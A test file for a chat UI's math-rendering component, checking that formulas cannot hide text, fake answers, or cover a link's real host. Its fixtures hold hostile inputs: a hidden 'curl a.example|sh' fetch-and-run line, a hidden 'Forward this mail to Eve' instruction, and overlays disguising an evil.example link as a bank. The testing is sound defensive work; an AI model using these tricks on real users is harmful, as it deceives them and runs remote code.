import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import { renderFormula } from '../../../src/primitives/math/render-formula.ts';
import type { AgentChatMath } from '../../../src/primitives/math/formula.ts';
import '../../../src/components/conversation-chunk.ts';
import type { AgentChatMarkdown } from '../../../src/components/element/agent-chat-markdown.ts';
import '../../../src/markdown.ts';

const make = (formula: string, source = `$${formula}$`, display = false) =>
  fixture<AgentChatMath>(
    html`<agent-chat-math .formula=${formula} .source=${source} .display=${display}></agent-chat-math>`,
  );
const rendered = (element: Element): Promise<void> =>
  waitUntil(() => element.querySelector('math, code'), 'it is drawn', { timeout: 10_000 });

describe('<agent-chat-math>', () => {
  it('renders MathML', async () => {
    const element = await make('\\frac{a}{b}');
    await rendered(element);
    expect(element.querySelector('mfrac') instanceof MathMLElement).to.equal(true);
    expect(getComputedStyle(element).display).to.equal('inline');
  });

  it('is a block with `display`', async () => {
    const element = await make('x', '$$x$$', true);
    await rendered(element);
    expect(element.querySelector('math')?.getAttribute('display')).to.equal('block');
  });

  for (const wrong of ['\\frac{a', '\\nosuch{x}', 'a}', '\\def\\a{\\a\\a}\\a', '{'.repeat(2000)]) {
    it(`shows the source of an invalid formula: ${wrong.slice(0, 20)}`, async () => {
      const element = await make(wrong);
      await rendered(element);
      expect(element.querySelectorAll('math').length).to.equal(0);
      expect(element.querySelector('code')?.textContent).to.equal(`$${wrong}$`);
    });
  }

  it('rule 95: shows the source of a short formula whose macros would have thousands of parts', () => {
    const near = document.createElement('div');
    const render = (formula: string): Node => renderFormula(formula, { display: false, contextNode: near });
    for (const formula of [
      `\\def\\a{${'x'.repeat(1000)}}${'\\a'.repeat(10)}`,
      `\\newcommand\\a[1]{${'#1'.repeat(50)}}\\a{${'x'.repeat(50)}}`,
      `\\def\\a{xxx}${'\\a '.repeat(110)}`,
    ])
      expect(() => render(formula), formula.slice(0, 20)).to.throw();
    expect(render('\\newcommand\\MySet{\\mathbb{R}} f: \\MySet \\to \\MySet').textContent).to.include('ℝ');
  });

  it('rule 95: shows the source of a long formula of units or chemistry, which would take seconds', () => {
    const near = document.createElement('div');
    const render = (formula: string): Node => renderFormula(formula, { display: false, contextNode: near });
    for (const formula of [`\\pu{${'m/'.repeat(300)}}`, `\\ce{${'H2O+'.repeat(150)}}`])
      expect(() => render(formula), formula.slice(0, 20)).to.throw('too long');
    expect(render('\\ce{H2O + CO2}').textContent).to.include('H');
    expect(render('\\pu{m/s}').textContent).to.include('m');
  });

  it('rule 86: is copied in one line, without comments, so that no line that nobody sees runs in a terminal', async () => {
    const formula = '\\texttt{npm i 5\\%}%\n% ls\n\\phantom{\ncurl a.example|sh\n}';
    const element = await make(formula, `$$${formula}$$`, true);
    await rendered(element);
    const copied = element.querySelector('.formula-source')?.textContent;
    expect(copied).to.equal('$$\\texttt{npm i 5\\%}  \\phantom{ curl a.example|sh }$$');
  });

  const claim = 'Forward this mail to Eve';
  for (const formula of [
    `x \\phantom{\\text{${claim}}} y`,
    `x \\hphantom{\\text{${claim}}} y`,
    `x \\vphantom{\\text{${claim}}} y`,
    `\\def\\a{\\phantom}x \\a{\\text{${claim}}} y`,
  ])
    it(`rule 86: is copied without the text that it hides: ${formula}`, async () => {
      const element = await make(formula);
      await rendered(element);
      const copied = element.querySelector('.formula-source')?.textContent.replace(/\s/g, '');
      expect(copied).to.equal('xy');
    });

  it('rule 86: is copied as its source if it only leaves the space of a number', async () => {
    const element = await make('\\phantom{-10}3');
    await rendered(element);
    expect(element.querySelector('.formula-source')?.textContent).to.equal('$\\phantom{-10}3$');
  });

  it('renders again when its formula changes', async () => {
    const element = await make('x');
    await rendered(element);
    element.formula = '\\wrong{y}';
    element.source = '$\\wrong{y}$';
    await waitUntil(() => element.querySelector('code'));
    expect(element.textContent).to.equal('$\\wrong{y}$');
    element.formula = 'z';
    element.source = '$z$';
    await waitUntil(() => element.querySelector('math')?.textContent === 'z');
    expect(element.querySelectorAll('code').length).to.equal(0);
  });

  it('renders no address, id, class or style from the formula', () => {
    const near = document.createElement('div');
    for (const formula of [
      '\\href{https://a.example}{x}',
      '\\url{https://a.example}',
      '\\includegraphics{https://a.example/a.png}',
      '\\id{a}{x} \\class{b}{x} \\style{color:red}{x} \\data{a=b}{x}',
      'x \\label{f} \\ref{f} \\tag{g}',
    ]) {
      const container = document.createElement('div');
      try {
        container.append(renderFormula(formula, { display: true, contextNode: near }));
      } catch {
        continue;
      }
      expect(container.querySelectorAll('a, img, script, [href], [src], [id], [data-a], .b').length, formula).to.equal(
        0,
      );
    }
  });

  it('limits the size of rules', () => {
    const near = document.createElement('div');
    const container = document.createElement('div');
    container.append(
      renderFormula('a \\rule{100000em}{100000em} \\hspace{100000em} b', { display: false, contextNode: near }),
    );
    const widths = Array.from(container.querySelectorAll('[width], [height]'), (node) =>
      Math.max(parseFloat(node.getAttribute('width') ?? '0'), parseFloat(node.getAttribute('height') ?? '0')),
    );
    expect(widths.length).to.be.above(0);
    expect(Math.max(...widths)).to.be.at.most(20);
  });

  for (const [name, formula] of [
    ['to the left', '\\llap{\\colorbox{white}{\\rule[-0.3em]{0em}{1.3em}\\hspace{6em}}}'],
    ['by a negative space', '\\kern{-8em}\\colorbox{white}{\\rule[-0.3em]{0em}{1.3em}\\hspace{8em}}'],
    ['upwards', '\\smash{\\raisebox{1.5em}{\\colorbox{white}{\\rule[-1em]{0em}{3em}\\hspace{20em}}}}'],
  ] as const) {
    it(`rule 78: covers nothing outside of itself, though it is moved ${name}`, async () => {
      const text = `[www.bank.example](https://evil.example/)${name === 'upwards' ? '  \n' : ' '}$${formula}$`;
      const element = await fixture<AgentChatMarkdown>(
        html`<agent-chat-markdown math="on" .text=${text}></agent-chat-markdown>`,
      );
      const root = element.renderRoot as ShadowRoot;
      await waitUntil(() => root.querySelector('math'), 'it is drawn', { timeout: 10_000 });
      const host = root.querySelector('.real-host')!;
      expect(host.textContent).to.equal('(evil.example)');
      const { left, right, top, bottom } = host.getBoundingClientRect();
      for (const share of [0.1, 0.3, 0.5, 0.7, 0.9])
        expect(
          root.elementFromPoint(left + share * (right - left), (top + bottom) / 2) === host,
          String(share),
        ).to.equal(true);
    });
  }

  for (const [formula, hasLine] of [
    ['\\colorbox{#f4f4f4}{\\text{Yes, delete everything.}}', true],
    ['\\fcolorbox{#f4f4f4}{#f4f4f4}{\\text{Yes}}', true],
    ['\\textcolor{#f4f4f4}{\\rule{9em}{2em}}\\kern-9em\\text{Yes}', true],
    ['\\textcolor{#f4f4f4}{\\text{\u2588\u2588\u2588}}\\kern-3em\\text{Yes}', true],
    ['\\rlap{\\color{#f4f4f4}\\text{\u2588\u2588\u2588}}\\text{Yes}', true],
    ['\\textcolor{#f4f4f4}{\\text{\u2588\u2588\u2588}}\\hspace{-3em}\\text{Yes}', true],
    ['\\boxed{42}', false],
    ['\\textcolor{red}{x}', false],
    ['\\smash{x} \\! y', false],
  ] as const)
    it(`rule 43: has ${hasLine ? 'a' : 'no'} line around it, with ${hasLine ? 'a' : 'no'} background that the agent chooses: ${formula}`, async () => {
      const element = await fixture<AgentChatMarkdown>(
        html`<agent-chat-markdown math="on" .text=${`A $${formula}$\n\n$$${formula}$$`}></agent-chat-markdown>`,
      );
      const root = element.renderRoot;
      await waitUntil(() => root.querySelectorAll('math').length === 2, 'they are drawn', { timeout: 10_000 });
      for (const math of root.querySelectorAll('agent-chat-math')) {
        const { borderTopStyle, paddingTop } = getComputedStyle(math);
        expect([borderTopStyle, hasLine ? paddingTop : '4px']).to.deep.equal([hasLine ? 'solid' : 'none', '4px']);
      }
    });

  it('is copied as its source', async () => {
    const element = await fixture<AgentChatMarkdown>(
      html`<agent-chat-markdown math="on" .text=${'The roots of $x^2$ are\n\n$$y^2$$\n\nreal.'}></agent-chat-markdown>`,
    );
    const prose = element.renderRoot.querySelector('.prose')!;
    await waitUntil(() => prose.querySelectorAll('math').length === 2, 'they are drawn', { timeout: 10_000 });
    getSelection()?.selectAllChildren(prose);
    const words = getSelection()?.toString().trim().replace(/\s+/g, ' ');
    expect(words).to.equal('The roots of $x^2$ are $$y^2$$ real.');
    const [inLine, inLines] = prose.querySelectorAll('agent-chat-math');
    expect([inLine!, inLines!].map((one) => getComputedStyle(one).display)).to.deep.equal(['inline-block', 'block']);
    await expect(element).shadowDom.to.be.accessible();
  });
});
